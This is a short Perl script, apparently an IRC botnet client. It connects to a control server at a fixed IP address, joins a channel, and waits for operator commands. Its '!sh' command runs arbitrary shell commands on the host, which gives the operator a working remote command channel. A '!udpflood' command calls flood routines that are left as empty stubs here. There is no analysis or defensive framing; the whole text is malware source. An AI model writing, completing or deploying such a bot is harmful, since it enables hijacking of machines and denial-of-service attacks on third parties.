#!/usr/bin/perl
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "198.51.100.23", PeerPort => 6667);
print $s "NICK bot123\r\nUSER b b b b\r\nJOIN #ch\r\n";
while (<$s>) {
  if (/PRIVMSG #ch :!udpflood (\S+) (\d+)/) { udpflood($1, $2); }
  if (/PRIVMSG #ch :!sh (.*)/) { my @o = `$1`; system("echo done"); }
}
sub udpflood { }
sub synflood { }
